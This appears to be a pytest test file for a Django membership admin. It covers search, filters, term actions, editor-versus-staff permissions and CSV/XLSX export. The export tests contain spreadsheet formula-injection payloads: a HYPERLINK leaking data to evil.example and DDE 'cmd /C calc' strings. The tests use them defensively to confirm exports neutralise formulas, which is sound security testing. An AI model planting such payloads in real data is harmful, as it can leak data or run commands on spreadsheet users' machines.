"""The membership admin: who may change terms, history, actions, filters, export, query counts."""

import datetime

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from members.models import Membership, Person, Role, Tier
from tests.members.factories import (
    MembershipFactory,
    PersonFactory,
    make_former_member,
    make_member,
    make_members,
)

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:members_person_changelist"


def person_url(person):
    return reverse("admin:members_person_change", args=[person.pk])


def run_action(client, action, people, **fields):
    data = {"action": action, "index": 0, "_selected_action": [p.pk for p in people], **fields}
    return client.post(reverse(CHANGELIST) + "?membership=all", data, follow=True)


def test_staff_find_people_by_name_affiliation_or_email(client, membership_staff):
    client.force_login(membership_staff)
    make_member(
        name="Henry Hale", affiliation="George Washington University", email="hh@gwu.example"
    )
    make_member(name="Tanya Lokot", affiliation="Dublin City University", email="tl@dcu.example")
    for query in ("Hale", "Washington", "hh@gwu"):
        html = client.get(reverse(CHANGELIST), {"q": query}).content.decode()
        assert "Henry Hale" in html and "Tanya Lokot" not in html, query


def test_changelist_defaults_to_current_members_and_filters(client, membership_staff):
    client.force_login(membership_staff)
    today = timezone.localdate()
    make_member(name="Current Core", tier=Tier.CORE, country="UA")
    make_member(name="Current Associate", tier=Tier.ASSOCIATE, country="US")
    soon = make_member(name="Ending Soon", tier=Tier.COLLEGIUM)
    soon.memberships.update(ended=today + datetime.timedelta(days=30))
    later = make_member(name="Ending Later")
    later.memberships.update(ended=today + datetime.timedelta(days=90))
    make_former_member(name="Former Person")
    PersonFactory(name="Only Author")

    def names(**params):
        response = client.get(reverse(CHANGELIST), params)
        assert response.status_code == 200
        return {p.name for p in response.context["cl"].result_list}

    assert names() == {"Current Core", "Current Associate", "Ending Soon", "Ending Later"}
    assert names(membership="former") == {"Former Person"}
    assert names(membership="never") == {"Only Author"}
    assert len(names(membership="all")) == 6
    assert names(tier="associate") == {"Current Associate"}
    assert names(country="UA") == {"Current Core"}
    assert names(ends="soon") == {"Ending Soon"}
    assert names(membership="all", status="active") >= {"Former Person", "Current Core"}


def test_country_filter_lists_only_the_countries_people_are_in(client, membership_staff):
    """Not all ~250 countries (a 6,500 px page): only those of the people listed."""
    client.force_login(membership_staff)
    make_member(name="Kyiv Member", country="UA")
    make_member(name="Tbilisi Member", country="GE")
    html = client.get(reverse(CHANGELIST)).content.decode()
    assert "?country=UA" in html and "?country=GE" in html
    assert "?country=FR" not in html and "?country=BR" not in html


@pytest.mark.parametrize("role", ["membership_staff", "editor"])
@pytest.mark.parametrize("count", [1, 60])
def test_changelist_query_budget(client, request, django_assert_max_num_queries, count, role):
    client.force_login(request.getfixturevalue(role))
    make_members(count)
    with django_assert_max_num_queries(12):
        response = client.get(reverse(CHANGELIST))
    assert response.status_code == 200
    assert "Member Number0" in response.content.decode()


def test_person_page_shows_membership_history_with_who_changed_what(client, membership_staff):
    client.force_login(membership_staff)
    person = PersonFactory(name="Ben Noble")
    response = client.post(
        person_url(person),
        {
            "name": "Ben Noble",
            "sort_name": "Noble, Ben",
            "slug": person.slug,
            "memberships-TOTAL_FORMS": "1",
            "memberships-INITIAL_FORMS": "0",
            "memberships-0-tier": "associate",
            "memberships-0-status": "active",
            "memberships-0-role": "member",
            "memberships-0-started": "2018-01-01",
        },
    )
    assert response.status_code == 302, response.content.decode()[-2000:]
    run_action(
        client, "add_term", [person], tier="core", status="active", role="member", on="2024-07-01"
    )
    html = client.get(person_url(person)).content.decode()
    assert "Membership history (who changed what)" in html
    assert "Added Associate term from 2018-01-01" in html
    assert "Changed Associate term from 2018-01-01: ended: — → 2024-06-30" in html
    assert "Added Core term from 2024-07-01" in html
    assert html.count("<td>membership</td>") == 3


def test_add_term_action_ends_the_current_term(client, membership_staff):
    client.force_login(membership_staff)
    person = make_member(name="Promoted Person", tier=Tier.ASSOCIATE)
    response = run_action(
        client,
        "add_term",
        [person],
        tier="core",
        role="executive_committee",
        title="Director",
        on="",
    )
    today = timezone.localdate()
    assert "Added a Core term from" in response.content.decode()
    old, new = person.memberships.order_by("started")
    assert old.ended == today - datetime.timedelta(days=1)
    assert (new.tier, new.role, new.title, new.started) == (
        Tier.CORE,
        Role.EXECUTIVE_COMMITTEE,
        "Director",
        today,
    )
    # Adding again on the same day corrects that term (the one rule: same start date, same
    # term), never a duplicate; the same values again change nothing.
    response = run_action(client, "add_term", [person], tier="core", title="Chair", on="")
    assert f"Corrected the term from {today} for: Promoted Person." in response.content.decode()
    assert person.memberships.count() == 2
    corrected = person.memberships.get(started=today)
    assert (corrected.role, corrected.title) == (Role.MEMBER, "Chair")
    response = run_action(client, "add_term", [person], tier="core", title="Chair", on="")
    assert f"The term from {today} is already so for: Promoted Person." in (
        response.content.decode()
    )
    assert person.memberships.count() == 2
    # A new term before the latest one is refused with the reason.
    response = run_action(client, "add_term", [person], tier="associate", on="2001-01-01")
    assert (
        f"Not changed: Promoted Person. This term starts before the latest one on file ({today})"
        in response.content.decode()
    )
    assert person.memberships.count() == 2


def test_add_term_needs_a_tier_and_a_real_date(client, membership_staff):
    client.force_login(membership_staff)
    person = make_member()
    assert "Choose the tier" in run_action(client, "add_term", [person], tier="").content.decode()
    response = run_action(client, "add_term", [person], tier="core", on="15/03/2024")
    assert (
        "Not changed: “15/03/2024” is not a date in the form YYYY-MM-DD."
        in response.content.decode()
    )
    assert person.memberships.count() == 1


def test_end_term_action(client, membership_staff):
    client.force_login(membership_staff)
    person = make_member(name="Leaving Person")
    response = run_action(client, "end_term", [person], on="")
    assert "Ended on" in response.content.decode()
    assert person.memberships.get().ended == timezone.localdate()
    assert person not in Person.objects.current_members(
        on=timezone.localdate() + datetime.timedelta(days=1)
    )


def test_export_of_the_current_list(client, membership_staff):
    client.force_login(membership_staff)
    make_member(
        name="Henry Hale",
        email="hale@example.org",
        expertise=["Russia", "Ukraine"],
        role=Role.EXECUTIVE_COMMITTEE,
        title="Director",
    )
    make_former_member(name="Former Person")
    response = client.post(
        reverse("admin:members_person_export"),
        {
            "format": "0",
            "resource": "0",
            **{
                f"personresource_{f}": "on"
                for f in (
                    "id",
                    "name",
                    "email",
                    "expertise",
                    "tier",
                    "status",
                    "role",
                    "title",
                    "started",
                    "ended",
                )
            },
        },
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "Henry Hale" in text and "hale@example.org" in text and "Russia; Ukraine" in text
    assert "executive_committee" in text and "Director" in text
    assert "Former Person" not in text
    response = client.post(
        reverse("admin:members_person_export"),
        {"format": "1", "resource": "0", "personresource_name": "on", "personresource_tier": "on"},
    )
    sheet = openpyxl.load_workbook(__import__("io").BytesIO(response.content)).active
    assert [c.value for c in sheet[2]][:2] == ["Henry Hale", "core"]


HOSTILE_CELLS = {
    "name": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "affiliation": "+cmd|' /C calc'!A0",
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "title": "=1+1",
}
EXPORT_FIELDS = ["id", "name", "affiliation", "position", "city", "expertise", "tier", "title"]


def export(client, fmt):
    data = {"format": fmt, "resource": "0"}
    data.update({f"personresource_{f}": "on" for f in EXPORT_FIELDS})
    response = client.post(reverse("admin:members_person_export"), data)
    assert response.status_code == 200
    return response


def hostile_member():
    values = dict(HOSTILE_CELLS)
    title = values.pop("title")
    return make_member(
        **values, title=title, role=Role.EXECUTIVE_COMMITTEE, expertise=["=cmd|' /C calc'!A0"]
    )


def test_export_writes_formulas_as_text_in_csv(client, membership_staff):
    """Issue 13, defect 10: a spreadsheet opening the export runs no formula."""
    import csv
    import io

    hostile_member()
    make_member(name="Plain Name", affiliation="-", city="+1 202 555 0100")
    client.force_login(membership_staff)
    rows = list(csv.DictReader(io.StringIO(export(client, "0").content.decode())))
    hostile = next(row for row in rows if "HYPERLINK" in row["name"])
    for column, typed in HOSTILE_CELLS.items():
        if column in hostile:
            assert hostile[column] == "'" + typed, column
    assert hostile["expertise"] == "'=cmd|' /C calc'!A0"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_export_writes_no_formula_cell_in_xlsx(client, membership_staff):
    import io

    hostile_member()
    client.force_login(membership_staff)
    book = openpyxl.load_workbook(io.BytesIO(export(client, "1").content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "'" + HOSTILE_CELLS["name"] in values and "'=1+1" in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_editor_cannot_change_memberships(client, editor):
    client.force_login(editor)
    person = make_member(name="Protected Person", tier=Tier.ASSOCIATE)
    term = person.memberships.get()
    assert client.get(reverse("admin:members_membership_add")).status_code == 403
    assert (
        client.post(
            reverse("admin:members_membership_change", args=[term.pk]),
            {
                "person": person.pk,
                "tier": "core",
                "status": "active",
                "role": "member",
                "started": "2020-01-01",
            },
        ).status_code
        == 403
    )
    # The person form has no membership inline or history for editors, and posting one is ignored.
    html = client.get(person_url(person)).content.decode()
    assert "memberships-TOTAL_FORMS" not in html and "Membership history" not in html
    client.post(
        person_url(person),
        {
            "name": "Protected Person",
            "sort_name": "Person, Protected",
            "slug": person.slug,
            "memberships-TOTAL_FORMS": "1",
            "memberships-INITIAL_FORMS": "0",
            "memberships-0-tier": "core",
            "memberships-0-status": "active",
            "memberships-0-role": "member",
            "memberships-0-started": "2024-01-01",
        },
    )
    # Membership actions are not offered, and forcing one does nothing.
    changelist = client.get(reverse(CHANGELIST)).content.decode()
    assert "add_term" not in changelist and "end_term" not in changelist
    run_action(client, "add_term", [person], tier="core")
    run_action(client, "end_term", [person])
    assert list(Membership.objects.values_list("tier", "ended")) == [(Tier.ASSOCIATE, None)]


def test_membership_staff_can_change_terms(client, membership_staff):
    client.force_login(membership_staff)
    person = make_member(tier=Tier.ASSOCIATE)
    term = person.memberships.get()
    response = client.post(
        reverse("admin:members_membership_change", args=[term.pk]),
        {
            "person": person.pk,
            "tier": "core",
            "status": "emeritus",
            "role": "member",
            "started": term.started.isoformat(),
        },
    )
    assert response.status_code == 302
    term.refresh_from_db()
    assert (term.tier, term.status) == ("core", "emeritus")
    history = client.get(
        reverse("admin:members_membership_history", args=[term.pk])
    ).content.decode()
    assert "membership" in history


def test_membership_term_that_ends_before_it_starts_is_a_form_error(client, membership_staff):
    client.force_login(membership_staff)
    person = PersonFactory()
    response = client.post(
        reverse("admin:members_membership_add"),
        {
            "person": person.pk,
            "tier": "core",
            "status": "active",
            "role": "member",
            "started": "2024-01-01",
            "ended": "2023-01-01",
        },
    )
    assert response.status_code == 200
    assert "A term cannot end before it starts." in response.content.decode()
    assert not Membership.objects.exists()


def test_membership_changelist_ends_soon_filter(client, membership_staff):
    client.force_login(membership_staff)
    today = timezone.localdate()
    MembershipFactory(person=PersonFactory(name="Soon"), ended=today + datetime.timedelta(days=59))
    MembershipFactory(person=PersonFactory(name="Later"), ended=today + datetime.timedelta(days=61))
    response = client.get(reverse("admin:members_membership_changelist"), {"ends": "soon"})
    assert [m.person.name for m in response.context["cl"].result_list] == ["Soon"]


# Editors see people, never their membership terms (issue 13, defect 8) ------------------------


def lapsed_member_with_a_private_title():
    today = timezone.localdate()
    person = PersonFactory(name="Laura Lisova", affiliation="Kyiv School of Economics")
    MembershipFactory(
        person=person,
        tier=Tier.COLLEGIUM,
        status="lapsed",
        role=Role.EXECUTIVE_COMMITTEE,
        title="Treasurer On Probation",
        started=datetime.date(2019, 3, 4),
        ended=today + datetime.timedelta(days=20),
    )
    return person


def test_editor_changelist_shows_no_term_columns_or_filters(client, editor):
    lapsed_member_with_a_private_title()
    PersonFactory(name="Only Author")
    client.force_login(editor)
    response = client.get(reverse(CHANGELIST))
    html = response.content.decode()
    # Everyone is listed (no default "current members" filter that would reveal who is one).
    assert {p.name for p in response.context["cl"].result_list} == {"Laura Lisova", "Only Author"}
    assert "Kyiv School of Economics" in html
    for term_data in (
        "Treasurer On Probation",
        "Executive Committee",
        "Collegium",
        "Lapsed",
        "2019-03-04",
        "2019",
        "column-tier",
        "column-term_started",
        "?tier=",
        "?status=",
        "?role=",
        "?ends=",
        "membership=former",
        "Current members",
    ):
        assert term_data not in html, term_data


@pytest.mark.parametrize(
    "params",
    [
        {"tier": "collegium"},
        {"status": "lapsed"},
        {"role": "executive_committee"},
        {"ends": "soon"},
        {"membership": "former"},
        {"term_title__icontains": "Treasurer"},
        {"term_tier": "collegium"},
        {"memberships__title__icontains": "Treasurer"},
        {"memberships__status": "lapsed"},
        {"o": "4"},
    ],
)
def test_editor_cannot_filter_on_terms_by_hand(client, editor, params):
    """A hand-made query string never filters on term data for an editor, and is never a 500."""
    lapsed_member_with_a_private_title()
    PersonFactory(name="Only Author")
    client.force_login(editor)
    response = client.get(reverse(CHANGELIST), params)
    if response.status_code == 302:  # the admin's "unknown filter" answer: ?e=1
        assert response["Location"].endswith("?e=1")
        response = client.get(response["Location"])
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        names = {p.name for p in response.context["cl"].result_list}
        assert names == {"Laura Lisova", "Only Author"}
        assert "Treasurer On Probation" not in response.content.decode()


def test_membership_staff_see_and_filter_on_terms(client, membership_staff):
    lapsed_member_with_a_private_title()
    PersonFactory(name="Only Author")
    client.force_login(membership_staff)
    html = client.get(reverse(CHANGELIST), {"membership": "all"}).content.decode()
    assert "Executive Committee (Treasurer On Probation)" in html
    assert "Collegium" in html and "Lapsed" in html and "tier=core" in html
    response = client.get(reverse(CHANGELIST), {"membership": "all", "status": "lapsed"})
    assert [p.name for p in response.context["cl"].result_list] == ["Laura Lisova"]
